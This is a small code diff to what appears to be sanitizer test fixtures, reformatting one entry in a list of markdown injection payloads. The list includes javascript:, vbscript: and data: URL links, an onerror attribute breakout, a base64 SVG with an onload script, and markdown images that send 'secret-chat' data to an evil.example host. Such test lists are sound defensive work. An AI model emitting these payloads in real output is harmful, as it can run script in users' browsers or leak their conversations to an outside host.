@@ -27,7 +27,8 @@ const HTML_PAYLOADS = [
 ]
 const MARKDOWN_PAYLOADS = [
   `![" onerror="${PWN}](x)`,
-  `[js](javascript:alert(1)) [mixed](JaVaScRiPt:alert(1)) [ent](&#106;avascript:alert(1)) [sp]( javascript:alert(1)) [vb](vbscript:msgbox(1)) [data](data:text/html,<script>alert(1)</script>)`,
+  '[js](javascript:alert(1)) [mixed](JaVaScRiPt:alert(1)) [ent](&#106;avascript:alert(1)) ' +
+    '[sp]( javascript:alert(1)) [vb](vbscript:msgbox(1)) [data](data:text/html,<script>alert(1)</script>)',
   `![exfil](https://evil.example/p?d=secret-chat)`,
   `![ref][r]\n\n[r]: https://evil.example/ref.png`,
   `![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
